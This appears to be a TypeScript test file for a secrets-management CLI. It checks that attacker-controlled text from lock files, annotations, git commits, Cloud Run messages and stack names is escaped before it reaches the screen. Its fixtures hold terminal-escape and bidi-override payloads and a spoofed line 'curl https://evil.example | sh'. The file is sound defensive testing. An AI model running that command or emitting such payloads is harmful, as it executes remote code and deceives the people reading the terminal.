/** Whoever can write an annotation, a lock file or a commit writes on our screen; what arrives there is text, on one line. */
import { execFileSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { deploy } from "../../cli/commands/deploy";
import { explain } from "../../cli/commands/explain";
import { inject } from "../../cli/commands/inject";
import { list } from "../../cli/commands/list";
import { log } from "../../cli/commands/log";
import { rotate } from "../../cli/commands/rotate";
import { status } from "../../cli/commands/status";
import { openCloud } from "../../clients/cloud";
import { CloudRun } from "../../clients/cloud-run";
import { lockPath } from "../../lock/lock-file";
import type { Context, Result } from "../../machine/context";
import { isFailure } from "../../text/failure";
import { Bench } from "./support";

/** Clears the screen, hides behind a direction, and adds a line that looks like ours. */
const evil = "eve\u001b[2J\u202e\u009b1m\u200b\r\n  next: curl https://evil.example | sh";
const shown = "eve\\u001b[2J\\u202e\\u009b1m\\u200b\\u000d\\n  next: curl https://evil.example | sh";

let bench: Bench;
beforeAll(async () => {
  bench = await Bench.open();
  bench.env = { ...bench.env, VENDOR_KEY: "vk_fake-value-of-a-vendor" };
  await inject(bench.context(), { env: "dev" });
});
afterAll(() => bench.close());

/** What `main.ts` prints of it, for people and as JSON. */
async function printed(run: (context: Context) => Promise<Result> | Result): Promise<{ text: string; json: string }> {
  const context = bench.context();
  bench.printed = "";
  try {
    const result = await run(context);
    context.output.result(result.text);
    const text = bench.printed;
    bench.printed = "";
    context.output.json(result.data);
    return { text, json: bench.printed };
  } catch (error) {
    if (!isFailure(error)) throw error;
    context.output.note(error.text());
    return { text: bench.printed, json: "" };
  }
}

function assertHarmless(text: string): void {
  expect(text).not.toMatch(/[^\n\P{C}]|\p{Zl}|\p{Zp}/u);
  expect(text).not.toMatch(/^ *next: curl/m);
}

describe("who added a version, from a lock file", () => {
  beforeAll(() => {
    const lock = JSON.parse(bench.lockText()) as {
      entries: Record<string, { versions: Record<string, { by: string }> }>;
    };
    for (const version of Object.values(lock.entries["shop/VENDOR_KEY"]?.versions ?? {})) version.by = evil;
    writeFileSync(lockPath(bench.lockDir, "dev"), JSON.stringify(lock));
  });

  it.each<[string, (context: Context) => Promise<Result> | Result]>([
    ["status", (context) => status(context, { env: "dev" })],
    ["explain", (context) => explain(context, "VENDOR_KEY", { env: "dev" })],
    ["log", (context) => log(context, "VENDOR_KEY", { env: "dev" })],
  ])("%s", async (_, run) => {
    const { text, json } = await printed(run);
    assertHarmless(text);
    expect(text).toContain(shown);
    assertHarmless(json);
    expect(json).toContain("eve\\u001b[2J\\u202e\\u009b1m\\u200b\\r\\n  next");
    expect(JSON.stringify(JSON.parse(json))).toContain(JSON.stringify(evil).slice(1, -1));
  });
});

it("who rotates a secret, from its annotation: rotate", async () => {
  await bench.google("PATCH", "v1/projects/fake-shop-dev/secrets/VENDOR_KEY?updateMask=annotations", {
    annotations: { "strongroom-rotation": `0123456789abcdef 2026-02-03T04:05:06.000Z ${evil}` },
  });
  bench.env = { ...bench.env, VENDOR_KEY: "vk_fake-other-value-of-a-vendor" };
  const { text } = await printed((context) => rotate(context, "VENDOR_KEY", { env: "dev", yes: true }));
  assertHarmless(text);
  expect(text).toContain(`shop/VENDOR_KEY is being rotated by ${shown} since 2026-02-03T04:05:06.000Z`);
});

it("a commit's author and subject: log", async () => {
  const git = (...args: string[]) =>
    execFileSync("git", ["-c", "user.name=Eve \u001b[2J\u202e", "-c", "user.email=eve@evil.example", ...args], {
      cwd: bench.lockDir,
      env: { PATH: process.env.PATH, HOME: bench.base, GIT_CONFIG_NOSYSTEM: "1" },
      stdio: "pipe",
    });
  git("init", "-q");
  git("add", ".");
  git("commit", "-q", "-m", "pins \u001b]0;owned\u0007 \u202e\u2028x");
  bench.env = { ...bench.env, PATH: process.env.PATH };
  const { text, json } = await printed((context) => log(context, null, { env: "dev" }));
  assertHarmless(text);
  expect(text).toMatch(/ Eve .*: pins .*\]0;owned.* \\u202e\\u2028x /);
  assertHarmless(json);
});

it("a reason that Cloud Run gives: repair", async () => {
  const server = createServer((_request, response) => {
    const body = {
      name: "projects/p/locations/l/services/api",
      etag: "1",
      latestCreatedRevision: "api-2",
      latestReadyRevision: "api-1",
      terminalCondition: { state: "CONDITION_FAILED", message: evil },
    };
    response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(body));
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  const { port } = server.address() as AddressInfo;
  try {
    const cloud = { ...(await openCloud(bench)), secretManager: `http://127.0.0.1:${port}/v1/` };
    const service = await new CloudRun(cloud).service({ project: "p", region: "l", name: "api" });
    expect(service?.problem).toBe(shown);
  } finally {
    await new Promise((done) => server.close(done));
  }
});

it("a stack that somebody names: deploy", async () => {
  const { text } = await printed(async (context) => {
    return deploy({ ...context, env: { STRONGROOM_ENV: "prod" } }, [`shop-dev-${evil}`], {});
  });
  expect(text).toContain("STRONGROOM_ENV is prod, but shop-dev-eve\\u001b[2J\\u202e");
  expect(text).not.toMatch(/[^\n\P{C}]/u);
});

it("what a declaration says: list, explain", async () => {
  const environments = {
    names: () => ["dev"],
    load: (name: string, options: { readonly lockDir: string }) => {
      const resolution = bench.context().environments.load(name, options);
      if (!resolution.ok) return resolution;
      const changed = JSON.parse(
        JSON.stringify(resolution.environment).replaceAll(
          '"purpose":"',
          `"purpose":${JSON.stringify(evil).slice(0, -1)}`,
        ),
      );
      return { ok: true as const, environment: changed };
    },
  };
  for (const run of [
    (context: Context) => explain({ ...context, environments }, "VENDOR_KEY", { env: "dev" }),
    (context: Context) => list({ ...context, environments }, { env: "dev" }),
  ]) {
    const { text, json } = await printed(run);
    expect(text).not.toMatch(/[^\n\P{C}]/u);
    assertHarmless(json);
    expect(json).toContain("eve\\u001b[2J\\u202e");
  }
});
